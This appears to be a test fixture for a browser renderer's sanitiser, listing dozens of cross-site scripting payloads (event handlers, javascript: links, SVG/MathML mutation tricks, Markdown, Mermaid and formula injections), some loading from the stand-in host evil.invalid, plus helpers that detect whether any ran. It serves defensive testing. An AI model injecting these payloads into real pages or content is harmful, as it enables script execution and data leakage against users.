// Words that would like to be code. Each would set `pwned`, open a dialog or ask evil.invalid, if anything let it.

/** One line each, so that they can also be a title, a name or a tag. */
export const LINES = [
  // Scripts and handlers.
  `<script>pwned=1</script>`,
  `<ScRiPt src=//evil.invalid/x.js></sCrIpT>`,
  `<img src=x onerror=pwned=1>`,
  `<img src=x onerror="pwned=1"//`,
  `"><img src=x onerror=pwned=1>`,
  `'-pwned=1-' onfocus=pwned=1 autofocus x='`,
  `<details open ontoggle=pwned=1><summary>x</summary></details>`,
  `<input autofocus onfocus=pwned=1>`,
  `<video><source onerror=pwned=1></video><audio src=x onerror=pwned=1>`,
  `<marquee onstart=pwned=1>x</marquee>`,
  `<body onload=pwned=1><base href="//evil.invalid/">`,
  `<x-y onfocus=pwned=1 tabindex=1 autofocus contenteditable>x</x-y>`,
  `<select><option><img src=x onerror=pwned=1></select>`,
  `<textarea></textarea><img src=x onerror=pwned=1>`,
  `<title></title><img src=x onerror=pwned=1>`,
  // SVG and MathML.
  `"><svg onload=pwned=1>`,
  `<svg><script>pwned=1</script></svg>`,
  `<svg><animate onbegin=pwned=1 attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:pwned=1"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=pwned=1>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>">`,
  `<svg><style><img src=x onerror=pwned=1></style></svg>`,
  `<math><mi href="javascript:pwned=1">x</mi></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=pwned=1>`,
  // What a second reading of the same markup would turn into something else.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>`,
  `<noscript><p title="</noscript><img src=x onerror=pwned=1>">`,
  `<template><img src=x onerror=pwned=1></template>`,
  `<p id="</p><img src=x onerror=pwned=1>">x`,
  `<!--><img src=x onerror=pwned=1>-->`,
  `<!-- --!><img src=x onerror=pwned=1> -->`,
  `<![CDATA[><img src=x onerror=pwned=1>]]>`,
  `<?xml ?><img src=x onerror=pwned=1>`,
  // Addresses.
  `<a href="javascript:pwned=1">here</a>`,
  `<a href="jav&#x09;ascript:pwned=1">here</a>`,
  `<a href=" &#14; javascript:pwned=1">here</a>`,
  `<a href="data:text/html,<script>opener.pwned=1</script>">here</a>`,
  `<a href="vbscript:pwned=1">here</a>`,
  `[here](javascript:pwned=1)`,
  `[here](JaVaScRiPt:pwned=1 "title")`,
  `[here](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)`,
  `![x](https://evil.invalid/leak.png?q=1)`,
  `![x](x"onerror="pwned=1)`,
  `![x](data:image/svg+xml,<svg onload=pwned=1>)`,
  `<javascript:pwned=1>`,
  `<https://evil.invalid/"onmouseover="pwned=1>`,
  // Frames, forms, styles, names of the page's own things.
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="javascript:pwned=1"></object><embed src="javascript:pwned=1">`,
  `<form action="javascript:pwned=1"><button autofocus onfocus=pwned=1>x</button></form>`,
  `<button form=composer formaction="javascript:pwned=1">x</button>`,
  `<meta http-equiv=refresh content="0;url=//evil.invalid/">`,
  `<link rel=stylesheet href=//evil.invalid/x.css>`,
  `<style>@import "//evil.invalid/x.css";*{background:url(//evil.invalid/)}</style>`,
  `<p style="background:url(//evil.invalid/x)" onclick=pwned=1>x</p>`,
  `<div id=app name=body class="dialog">x</div><img name=getElementById>`,
  // Templates, encodings, signs that look like others.
  "${pwned=1}{{constructor.constructor('pwned=1')()}}#{pwned=1}<%= pwned=1 %>",
  `%3Cimg src=x onerror=pwned=1%3E &lt;img src=x onerror=pwned=1&gt;`,
  `&#60;script&#62;pwned=1&#60;/script&#62;`,
  `\u202e<img src=x onerror=pwned=1>\u202c`,
  `\uff1cimg src=x onerror=pwned=1\uff1e`,
  `<scr\u200bipt>pwned=1</script>`,
  `<img src=x\u2028onerror=pwned=1>`,
  // Formulas.
  "$\\href{javascript:pwned=1}{x}$ $\\includegraphics{https://evil.invalid/y.png}$",
  "$\\htmlData{onclick=pwned=1}{x}$ $\\url{javascript:pwned=1}$",
  "\\(\\text{<img src=x onerror=pwned=1>}\\)",
  "`<b onclick=pwned=1>` ``</code><img src=x onerror=pwned=1>``",
];

/** Those that need more than a line: only an answer, a document or a note has them. */
export const BLOCKS = [
  '```mermaid\ngraph TD\n  A["<img src=x onerror=pwned=1>"] --> B\n  click A "javascript:pwned=1"\n  click B call pwned()\n```',
  '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "*{background:url(https://evil.invalid/x)}"}}%%\ngraph TD\n  A["<b onclick=pwned=1>x</b>"]\n```',
  '```mermaid\nsequenceDiagram\n  A->>B: <script>pwned=1</script>\n  link A: here @ javascript:pwned=1\n```',
  '```mermaid\nflowchart TD\n  A@{ img: "https://evil.invalid/x.png", label: "x" }\n  style A fill:url(https://evil.invalid/y)\n```',
  '```mermaid\n---\nconfig:\n  htmlLabels: true\n  flowchart:\n    htmlLabels: true\n---\nflowchart TD\n  A["<img/src=https://evil.invalid/z onerror=pwned=1>"]\n```',
  '```"><img src=x onerror=pwned=1>\ncode\n```',
  '```html onload=pwned=1 class="x\n<script>pwned=1</script>\n<img src=x onerror=pwned=1>\n```',
  "~~~{.js onclick=pwned=1}\n</code></pre><img src=x onerror=pwned=1>\n~~~",
  "[here][x] ![x][x]\n\n[x]: javascript:pwned=1 '\"><img src=x onerror=pwned=1>'",
  "A note[^a].\n\n[^a]: <img src=x onerror=pwned=1> [here](javascript:pwned=1)",
  "| a |\n|---|\n| <img src=x onerror=pwned=1> |\n| [here](javascript:pwned=1) |",
  "$$\n\\href{javascript:pwned=1}{x} \\htmlStyle{background:url(https://evil.invalid/)}{y}\n$$",
  "> - <details><summary>x</summary>\n>   ```js\n>   </details><img src=x onerror=pwned=1>\n>   ```",
  "<div>\n\n<img src=x onerror=pwned=1>\n\n<script>\n\npwned=1\n\n</script>\n\n</div>",
  "- [ ] <input type=image src=x onerror=pwned=1>\n- [x] <label for=composer>x</label>",
];

export const ALL = [...LINES, ...BLOCKS];

/** Listens for what a page would not say on its console. Before the first page of a context. */
export function watch(context) {
  return context.addInitScript(() => {
    globalThis.violations = [];
    addEventListener("securitypolicyviolation", (event) => globalThis.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
  });
}

/** What came alive, as a list of words; empty where nothing did. */
export async function alive(page) {
  const inside = [];
  for (const frame of page.frames()) if (await frame.evaluate(() => globalThis.pwned).catch(() => undefined)) inside.push(`ran in ${frame.url()}`);
  const found = await page.evaluate(() => {
    const bad = [...globalThis.violations];
    const live = "script, iframe, object, embed, base, meta, link, style, template, noscript, video, audio, marquee, animate, foreignObject, form[action], [formaction], [srcdoc], [style*=url]";
    for (const node of document.querySelectorAll("#app *")) {
      const strange = node.matches(live) || node.localName.includes("-") || (node.namespaceURI.endsWith("MathML") && !node.closest(".katex"));
      const attributes = [...node.attributes].filter(({ name, value }) => /^on/i.test(name) || (/^(href|src|xlink:href|action)$/i.test(name) && /^[\s\u0000-\u0020]*(javascript|vbscript|data:text|data:image\/svg\+xml(?!;charset=utf-8,%3Csvg))/i.test(value)));
      if (strange || attributes.length) bad.push(node.outerHTML.slice(0, 160));
    }
    if (document.querySelectorAll("#app").length !== 1 || document.body.firstElementChild?.id !== "app") bad.push("the root of the page is another one");
    return bad;
  });
  return [...inside, ...found];
}
